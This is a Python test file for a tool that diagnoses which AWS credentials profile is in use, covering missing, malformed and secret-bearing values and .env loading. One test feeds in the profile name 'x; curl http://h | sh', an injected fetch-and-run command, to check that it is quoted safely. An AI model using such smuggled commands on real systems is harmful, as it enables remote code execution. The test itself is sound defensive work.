"""credentials.profile: the profile that is asked for."""

import pytest

from checks.credentials.profile import NOT_FOUND, look
from checks.model import Evidence, Finding
from checks.target import known_target
from tests.plugins.people import KEY_ID, KEYS, REGION, SECRET, findings

MALFORMED = [("credentials.profile-variable-malformed", "fail", None)]
NAMED = REGION.replace("default", "profile rek")


def test_without_a_wish_the_default_profile_is_used(person):
    assert list(look(person(REGION))) == [Evidence("profile", "default", "botocore")]


@pytest.mark.parametrize(
    ("about", "source"),
    [
        ({"profile": "rek"}, "--profile"),
        ({"AWS_PROFILE": "rek"}, "AWS_PROFILE"),
        ({"AWS_DEFAULT_PROFILE": "rek", "AWS_PROFILE": "other"}, "AWS_DEFAULT_PROFILE"),
    ],
    ids=["flag", "AWS_PROFILE", "AWS_DEFAULT_PROFILE"],
)
def test_the_profile_is_shown_with_who_named_it(person, about, source):
    assert list(look(person(NAMED, **about))) == [Evidence("profile", "rek", source)]


def test_a_profile_that_is_not_there_is_named_with_those_that_are(person):
    context = person(NAMED, KEYS, AWS_PROFILE="work")

    assert list(look(context)) == [
        NOT_FOUND.finding(
            Evidence("profile", "'work'", "AWS_PROFILE"),
            facts={
                "source": "AWS_PROFILE",
                "profile": "work",
                "names": ("rek", "default"),
                "quoted": "work",
            },
        )
    ]


@pytest.mark.parametrize("files", [(NAMED, KEYS), ()])
def test_a_name_that_a_shell_would_run_is_told_in_quotes(person, files):
    [found] = look(person(*files, AWS_PROFILE="x; curl http://h | sh"))
    told = [step.text.format(**{**found.facts, **step.facts}) for step in found.remedy.steps]

    assert [each for each in told if "setup --profile 'x; curl http://h | sh'." in each]


def test_a_profile_that_is_not_there_stops_keys_of_the_environment_too(person):
    context = person(profile="work", AWS_ACCESS_KEY_ID="AKIA", AWS_SECRET_ACCESS_KEY="x")

    (finding,) = look(context)
    assert (finding.code, finding.facts["names"]) == ("credentials.profile-not-found", ())


def test_default_by_name_must_exist(person):
    context = person(NAMED, AWS_PROFILE="default")

    assert findings(look(context)) == [("credentials.profile-not-found", "fail", None)]


@pytest.mark.parametrize("value", ["", '"rek"', "rek ", "  "])
def test_an_empty_quoted_or_spaced_variable_is_malformed(person, value):
    assert findings(look(person(NAMED, AWS_PROFILE=value))) == MALFORMED


@pytest.mark.parametrize(
    ("value", "platform", "command"),
    [
        ("", "linux", "unset AWS_PROFILE"),
        ("rek ", "linux", "export AWS_PROFILE=rek"),
        ("", "win32", "Remove-Item Env:AWS_PROFILE"),
        ('"rek"', "win32", "$Env:AWS_PROFILE = 'rek'"),
    ],
)
def test_a_malformed_variable_is_mended_in_the_persons_shell(person, value, platform, command):
    (finding,) = look(person(NAMED, AWS_PROFILE=value, platform=platform))

    assert finding.remedy.commands == (command,)


def test_a_quoted_name_that_nobody_has_is_not_found(person):
    context = person(NAMED, AWS_PROFILE='"work"')

    assert findings(look(context)) == [("credentials.profile-not-found", "fail", None)]


@pytest.mark.parametrize("by", [{"profile": SECRET}, {"AWS_PROFILE": f"x{SECRET[1:]}"}])
def test_a_secret_in_the_place_of_a_profile_is_shown_nowhere(person, by):
    context = person(**by)

    (finding,) = look(context)

    assert finding.code == "credentials.profile-not-found"
    assert SECRET[1:] not in f"{finding} {known_target(context)}"


OTHER = "AKIAZXCVBNMASDFGHJKL"


@pytest.mark.parametrize(
    ("text", "about", "expected"),
    [
        ("AWS_PROFILE=rek\n", {}, [("info", "rek")]),
        ("\n# mine\nexport AWS_PROFILE='gone'\n", {}, [("warn", "gone")]),
        (f"AWS_ACCESS_KEY_ID={OTHER}\nAWS_SECRET_ACCESS_KEY={SECRET}\n", {},
         [("info", "AKIA************HJKL")]),
        (f"AWS_ACCESS_KEY_ID={SECRET}\n", {}, [("info", "****")]),
        # nothing else than what is in use, or nothing that a program would take
        (f"AWS_ACCESS_KEY_ID={KEY_ID}\nAWS_PROFILE=default\n", {}, []),
        ("AWS_PROFILE=rek\n", {"AWS_PROFILE": "rek"}, []),
        ("AWS_PROFILE=gone\n", {"profile": "rek"}, [("warn", "gone")]),
        ("AWS_PROFILE=\nAWS_PROFILE=$X\n#AWS_PROFILE=rek\nDEBUG=1\n", {}, []),
    ],
)  # fmt: skip
def test_what_a_program_would_load_from_a_file_beside_it_is_told(
    person, home, text, about, expected
):
    (home / ".env").write_text(text)
    context = person(f"{REGION}[profile rek]\nregion = us-east-1\n", KEYS, **about)

    found = [each for each in look(context) if isinstance(each, Finding)]

    assert [(each.severity.value, each.facts["value"]) for each in found] == expected
    assert SECRET not in repr(found)
